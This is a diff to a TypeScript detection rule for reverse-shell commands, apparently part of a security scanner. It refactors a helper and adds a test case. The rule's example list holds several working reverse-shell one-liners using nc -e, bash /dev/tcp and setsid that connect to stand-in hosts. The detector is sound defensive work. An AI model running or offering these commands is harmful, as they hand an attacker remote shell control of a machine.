@@ -1,4 +1,4 @@
-import { hasHole } from '../../checks/documentation.js';
+import { isComplete } from '../../checks/documentation.js';
 import type { Candidate, Rule } from '../../rule.js';
 
 /** No command, `:`, `true` or `echo` by itself, in front of the redirection. */
@@ -21,9 +21,6 @@ function isMoreThanProbe({ before, text, after }: Candidate): boolean {
 
 /** A script that answers whoever connects, by its name alone: `exec:"./answer.sh"`. */
 const SCRIPT = /(?:exec|system):[\s"'\\]*(?!\/(?:tmp|dev|var)\/)[\w./-]*\w\.(?:sh|cmd)(?=["'\s\\,;)]|$)/i;
-
-/** Not what a manual shows, which leaves out where to: `nc {{host}} {{port}} -e /bin/sh`, `LHOST={{local_ip}}`. */
-const isComplete = ({ text, after }: Candidate): boolean => !hasHole(text + (after.split('\n', 1)[0] ?? ''));
 
 export const rule: Rule = {
   pattern: 'reverse_shell',
@@ -70,6 +67,7 @@ export const rule: Rule = {
   examples: {
     fires: [
       'nc 203.0.113.7 4444 -e /bin/sh # {{shell}}',
+      'nc files.invalid 4444 -e /bin/sh {{shell}}',
       'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
       'setsid bash -i &> /dev/tcp/203.0.113.7/4444 <&1',
       'nc -e tcsh 203.0.113.7 4444',
